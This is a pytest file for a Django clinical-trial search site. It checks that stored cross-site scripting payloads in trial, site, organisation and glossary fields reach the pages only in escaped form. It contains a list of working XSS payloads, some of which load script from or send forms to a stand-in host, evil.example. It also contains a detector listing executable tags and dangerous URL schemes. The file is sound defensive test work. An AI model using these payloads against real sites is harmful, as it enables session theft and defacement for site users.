"""Stored XSS: classic payloads in every patient-facing field an editor or an import can
fill. Plain text is escaped by templates, Markdown goes through markdown-it and nh3, and
glossary definitions are escaped by the marker; no page may carry executable markup."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.urls import reverse

from tests.factories import add_organisation, make_condition, make_site, make_trial
from trialfinder.glossary.models import GlossaryTerm
from trialfinder.trials.models import Site, Status, TrialOrganisation

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body{display:none}</style>",
    "<object data=javascript:alert(1)>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>go</button></form>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="  javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    '[a](https://example.org" onmouseover="alert(1))',
    '[a](https://example.org "title\\" onmouseover=\\"alert(1)")',
    '![img](x" onerror="alert(1))',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "**bold** <b onmouseover=alert(1)>hover</b>",
    "- item <img src=1 onerror=alert(1)>\n- [x](javascript:alert(1))",
    "{{ settings.SECRET_KEY }} {% debug %}",
]
# A word that is marked as a glossary term, so hostile definitions reach trial pages too.
MARKED_WORD = "zorbitol"
TRIAL_TEXT_FIELDS = [
    "summary",
    "more_about",
    "who_can_join",
    "what_is_involved",
    "results_summary",
    "brief_summary",
    "detailed_description",
    "eligibility_criteria",
    "inclusion_criteria",
    "exclusion_criteria",
    "keywords",
    "official_title",
]
TRIAL_SHORT_FIELDS = {
    "title": 300,
    "acronym": 50,
    "why_stopped": 500,
    "chief_investigator": 200,
    "chief_investigator_affiliation": 255,
    "contact_name": 200,
}
EXECUTABLE_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "base"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"}


class _Executable(HTMLParser):
    """Collects anything in a page that a browser could run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and (values.get("src") or "").startswith(settings.STATIC_URL):
            return  # our own static scripts
        if tag in EXECUTABLE_TAGS:
            self.problems.append(f"<{tag}>")
        action = values.get("action") or ""
        if tag == "form" and (not action.startswith("/") or action.startswith("//")):
            self.problems.append(f"<form action={action}>")  # only our own forms
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            if name == "style":
                self.problems.append(f"<{tag} style=>")
            cleaned = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in URL_ATTRIBUTES and cleaned.startswith(BAD_SCHEMES):
                self.problems.append(f"<{tag} {name}={value}>")

    handle_startendtag = handle_starttag


def assert_nothing_executable(html: str) -> None:
    parser = _Executable()
    parser.feed(html)
    parser.close()
    assert parser.problems == []
    # Belt and braces, on the raw text.
    scripts = re.findall(r"<script\b[^>]*>", html, re.IGNORECASE)
    assert all(f'src="{settings.STATIC_URL}' in s for s in scripts), scripts
    for tag in re.findall(r"<[a-zA-Z][^>]*>", html):
        # Quoted attribute values are text (escaped); only attribute names matter.
        names_only = re.sub(r"\"[^\"]*\"|'[^']*'", '""', tag)
        assert not re.search(r"\son\w+\s*=", names_only, re.IGNORECASE), tag
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE)
    assert settings.SECRET_KEY not in html


@pytest.fixture
def hostile_glossary(db):
    return [
        GlossaryTerm.objects.create(
            term=f"{MARKED_WORD}{n}" if n else MARKED_WORD,
            slug=f"{MARKED_WORD}-{n}",
            definition=payload,
            explanation=payload,
            variants=payload,
        )
        for n, payload in enumerate(PAYLOADS[:8])
    ] + [
        GlossaryTerm.objects.create(
            term=f"{payload[:190]} {n}", slug=f"hostile-{n}", definition=payload
        )
        for n, payload in enumerate(PAYLOADS)
    ]


# Four payloads per trial keeps the test fast while every payload reaches every field.
CHUNKS = [PAYLOADS[i : i + 4] for i in range(0, len(PAYLOADS), 4)]


def _hostile_trial(n: int, chunk: list[str], soft_tissue_sarcoma, **extra):
    text = "\n\n".join([*chunk, f"A {MARKED_WORD} test."])
    short = " ".join(chunk)
    fields = dict.fromkeys(TRIAL_TEXT_FIELDS, text)
    fields.update({name: short[:size] for name, size in TRIAL_SHORT_FIELDS.items()})
    fields.update(extra)
    trial = make_trial(slug=f"xss-{n}", conditions=[soft_tissue_sarcoma], **fields)
    for payload in chunk:
        make_site(
            trial,
            facility=payload[:255],
            city=payload[:100],
            state=payload[:100],
            region="yorkshire-and-the-humber",
        )
        for role in (TrialOrganisation.Role.SPONSOR, TrialOrganisation.Role.COLLABORATOR):
            add_organisation(trial, f"{payload[:240]} {role}", role, short_name=payload[:20])
    return trial


@pytest.mark.parametrize("n,chunk", list(enumerate(CHUNKS)))
def test_no_trial_page_carries_executable_markup(
    client, hostile_glossary, soft_tissue_sarcoma, n, chunk
):
    plain = _hostile_trial(n, chunk, soft_tissue_sarcoma, has_results=True)
    registry_only = _hostile_trial(
        100 + n, chunk, soft_tissue_sarcoma, summary="", who_can_join="", status=Status.COMPLETED
    )
    assert Site.objects.filter(trial=plain).count() == len(chunk)
    for trial in (plain, registry_only):
        for url in (trial.get_absolute_url(), reverse("trials:trial_print", args=[trial.slug])):
            response = client.get(url)
            assert response.status_code == 200, url
            html = response.content.decode()
            assert_nothing_executable(html)
            if url == trial.get_absolute_url():
                assert MARKED_WORD in html  # the hostile text really is on the page
    results = client.get(reverse("trials:trial_list"), {"status": "any", "q": MARKED_WORD})
    assert results.status_code == 200
    assert_nothing_executable(results.content.decode())


def test_no_glossary_page_carries_executable_markup(client, hostile_glossary):
    pages = [reverse("glossary:index"), reverse("glossary:index") + "?q=script"]
    pages += [reverse("glossary:term_detail", args=[t.slug]) for t in hostile_glossary]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_nothing_executable(response.content.decode())


def test_the_checker_itself_catches_executable_markup():
    for bad in [
        "<p><script>alert(1)</script></p>",
        '<img src="x" onerror="alert(1)">',
        '<a href=" JavaScript:alert(1)">x</a>',
        '<a href="data:text/html,hi">x</a>',
        "<svg><g/></svg>",
    ]:
        with pytest.raises(AssertionError):
            assert_nothing_executable(bad)


def test_why_this_matched_and_facet_choices_escape_what_editors_typed(client, db):
    # The reasons and the facet links are built in Python, not by the template.
    hostile = make_condition('<img src=x onerror=alert(1)> sarcoma "x"')
    trial = make_trial(title="A trial of zorbitol", conditions=[hostile])
    make_site(trial, facility="<script>alert(1)</script> Infirmary", region="london")
    response = client.get(
        reverse("trials:trial_list"),
        {"q": "zorbitol infirmary", "cancer_type": hostile.slug, "region": "london"},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert_nothing_executable(html)
    # The text is on the page, escaped: in a reason, and as a facet choice.
    assert "Cancer type: &lt;img src=x onerror=alert(1)&gt; sarcoma &quot;x&quot;" in html
    assert "“infirmary” at &lt;script&gt;alert(1)&lt;/script&gt; Infirmary" in html
    assert '<strong aria-current="true">&lt;img src=x' in html
